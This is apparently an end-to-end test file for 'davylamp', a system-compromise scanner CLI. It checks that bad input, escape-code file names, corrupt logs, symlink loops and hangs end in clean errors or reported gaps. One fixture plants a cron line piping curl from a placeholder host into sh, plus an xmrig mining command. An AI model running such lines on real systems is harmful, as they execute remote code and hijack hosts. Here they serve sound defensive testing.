// What a hurried or hostile world gives: each time one clear line or a gap, never a crash, a hang or a raw escape code.
import assert from 'node:assert/strict'
import { type ChildProcess, spawn } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, describe, test } from 'node:test'
import { davylamp, scanJson } from './run.ts'

const folder = mkdtempSync(join(tmpdir(), 'davylamp-e2e-'))
after(() => rmSync(folder, { recursive: true, force: true }))
const state = ['--state', join(folder, 'state')]

function disk(name: string, files: Readonly<Record<string, string | Uint8Array>>): string {
  const root = join(folder, name)
  for (const [path, content] of Object.entries({ '/etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n', ...files })) {
    const at = Buffer.from(root + path, 'latin1')
    mkdirSync(Buffer.from((root + path).slice(0, (root + path).lastIndexOf('/')), 'latin1'), { recursive: true })
    writeFileSync(at, content)
  }
  return root
}

describe('bad user input is one sentence and exit code 2', () => {
  const cases: Readonly<Record<string, readonly string[]>> = {
    'unknown option': ['scan', '--nope'],
    'unknown command': ['nope'],
    'unknown language': ['scan', '--lang', 'fr'],
    'a root that does not exist': ['scan', '--root', '/nonexistent-root'],
    'a root that is a file': ['scan', '--root', '/etc/passwd'],
    'a snapshot that does not exist': ['scan', '--snapshot', '/nonexistent'],
    'a snapshot that is none': ['scan', '--snapshot', '/etc/passwd'],
    'root and snapshot': ['scan', '--root', '/', '--snapshot', '/etc/passwd'],
    'an incident that is unknown': ['explain', 'I-none', ...state],
    'a kind that is unknown': ['list', 'things'],
    'too many arguments': ['scan', 'now'],
    'a trace of an unknown incident': ['trace', 'I-none', '--logs', folder, ...state],
    'a trace in a zone that is none': ['trace', '--logs', folder, '--zone', 'Mars/Olympus', ...state],
    'a trace since no time': ['trace', '--logs', folder, '--since', 'yesterday', ...state],
    'a trace of a host and of logs': ['trace', '--root', '/', '--logs', folder, ...state],
    'traces that are none': ['trace', '/etc/passwd', '/nonexistent', ...state],
  }
  for (const [name, args] of Object.entries(cases)) {
    test(name, () => {
      const { code, out, err } = davylamp(args)
      assert.equal(code, 2)
      assert.equal(out, '')
      assert.match(err, /^davylamp: [^\n]+\n$/)
    })
  }
})

test('names with newlines and escape codes never reach the terminal raw', () => {
  const root = disk('escapes', {
    '/etc/cron.d/\u001b[2Jevil\nname': '* * * * * root curl http://192.0.2.9/\u001b[31mx | sh\n',
    '/tmp/\u001b]0;owned\u0007': '#!/bin/sh\nxmrig -o stratum+tcp://pool.supportxmr.com:3333\n',
  })
  const { out, err } = davylamp(['scan', '--root', root, ...state], { env: { NO_COLOR: '1' } })
  assert.doesNotMatch(out + err, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/)
  assert.match(out, /\\x1b/)
})

test('corrupt login records, a symlink loop, a huge log and binary garbage in a crontab are looked at without harm', () => {
  const garbage = Uint8Array.from({ length: 4000 }, (_, i) => (i * 7919) % 256)
  const root = disk('hostile', {
    '/var/log/wtmp': garbage.subarray(0, 1000),
    '/etc/crontab': garbage,
    '/etc/shadow': garbage,
    '/var/log/auth.log': 'x',
    '/var/lib/dpkg/status': garbage,
  })
  truncateSync(join(root, 'var/log/auth.log'), 10 * 2 ** 30)
  symlinkSync('loop', join(root, 'etc/loop'))
  symlinkSync('/etc/cron.d', join(root, 'etc/cron.hourly'))
  symlinkSync('..', join(root, 'tmp'))
  const result = scanJson(['--root', root, ...state])
  assert.ok(['clean', 'incomplete', 'suspicious'].includes(result.verdict), result.verdict)
  assert.ok(!result.gaps.some(g => /internal error/.test(g.detail)), result.gaps.map(g => `${g.source}: ${g.detail}`).join('\n'))
})

test('a directory with very many names is capped and said so', () => {
  const root = disk('many', {})
  mkdirSync(join(root, 'tmp'))
  for (let i = 0; i < 20_000; i++) writeFileSync(join(root, 'tmp', `${i}`), '')
  const result = scanJson(['--root', root, ...state])
  assert.ok(
    result.gaps.some(g => g.why === 'capped' && g.source.startsWith('/tmp')),
    JSON.stringify(result.gaps),
  )
  assert.equal(result.verdict, 'incomplete')
})

test('without root the scan goes on and says what it could not see', {
  skip: process.getuid?.() === 0 ? false : 'needs root to become nobody',
}, () => {
  const result = scanJson(['--state', '/nonexistent/state'], { uid: 65534, env: { HOME: '/nonexistent' } })
  assert.ok(result.coverage.facts['processes']! > 0)
  assert.ok(result.gaps.some(g => g.why === 'denied'))
  assert.notEqual(result.verdict, 'clean')
})

test('Ctrl-C ends it at once and leaves nothing behind', async () => {
  const own = join(folder, 'interrupted')
  const temporary = mkdtempSync(join(folder, 'temporary-'))
  const child = spawn(process.execPath, [join(import.meta.dirname, '../../src/cli/main.ts'), 'scan', '--state', own], {
    stdio: 'ignore',
    env: { ...process.env, TMPDIR: temporary },
  })
  await new Promise(resolve => setTimeout(resolve, 600))
  child.kill('SIGINT')
  const signal = await new Promise(resolve => child.on('exit', (_, by) => resolve(by)))
  assert.equal(signal, 'SIGINT')
  assert.ok(!existsSync(own))
  assert.deepEqual(readdirSync(temporary), [])
})

test('a file system that never answers is a gap, and the scan still ends', {
  skip: existsSync('/dev/fuse') && process.getuid?.() === 0 ? false : 'needs root and /dev/fuse',
}, async () => {
  const root = disk('hanging', {})
  const mount = join(root, 'tmp')
  mkdirSync(mount)
  const child: ChildProcess = spawn(
    'sh',
    [
      '-c',
      `exec 9<>/dev/fuse; mount -i -t fuse -o fd=9,rootmode=40000,user_id=0,group_id=0 none "${mount}" && echo ready && exec sleep 100`,
    ],
    {
      stdio: ['ignore', 'pipe', 'inherit'],
    },
  )
  try {
    await new Promise(resolve => child.stdout?.once('data', resolve))
    const result = scanJson(['--root', root, ...state], { timeout: 60_000 })
    assert.ok(result.gaps.some(g => g.why === 'timeout'))
    assert.equal(result.verdict, 'incomplete')
  } finally {
    child.kill('SIGKILL')
    spawn('umount', ['-l', mount], { stdio: 'ignore' })
  }
})
